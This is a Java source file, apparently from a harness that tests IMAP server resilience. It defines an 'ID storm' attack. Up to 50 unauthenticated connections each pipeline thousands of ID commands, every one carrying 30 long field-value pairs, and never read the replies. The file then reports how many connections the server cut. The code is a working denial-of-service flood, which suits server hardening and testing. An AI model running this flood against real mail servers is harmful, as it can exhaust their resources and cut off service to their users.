package satchel.attack;

import java.nio.charset.StandardCharsets;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLong;

/**
 * Unnamed class (i): before login, 50 connections from one address each pipeline thousands of ID commands with
 * the 30 field-value pairs RFC 2971 §3.3 allows (values near its 1024-octet cap, as far as the line fits), never
 * reading the answers.
 */
record IdStorm() implements Attack {
    @Override public String name() { return "i-id-storm"; }
    @Override public String what() { return "before login: thousands of pipelined ID commands with 30 long pairs each, unread"; }

    @Override public String run(Ctx ctx) {
        StringBuilder id = new StringBuilder("i ID (");
        for (int k = 0; k < 30; k++) id.append(k == 0 ? "" : " ").append("\"name").append(k).append("\" \"").append("v".repeat(200)).append('"');
        byte[] cmd = id.append(")\r\n").toString().repeat(8).getBytes(StandardCharsets.US_ASCII);
        int conns = Math.min(50, ctx.sizes().perAddress() / 2 + 1);
        AtomicLong sent = new AtomicLong();
        AtomicInteger greeted = new AtomicInteger();
        AtomicInteger cut = new AtomicInteger();
        AtomicLong errors = new AtomicLong();
        ctx.parallel(conns, errors, i -> {
            Wire w = ctx.open(0, false, 4096);
            if (!w.line().startsWith("* OK")) return;
            greeted.incrementAndGet();
            try {
                for (int k = 0; k < 500 && ctx.timeLeft(); k++) {
                    w.send(cmd);
                    sent.addAndGet(8);
                }
            } catch (java.io.IOException e) {
                cut.incrementAndGet();
            }
            ctx.hold();
        });
        return greeted + " connections sent " + sent + " ID commands (" + cmd.length / 8 + " bytes each), " + cut + " cut by the server";
    }
}
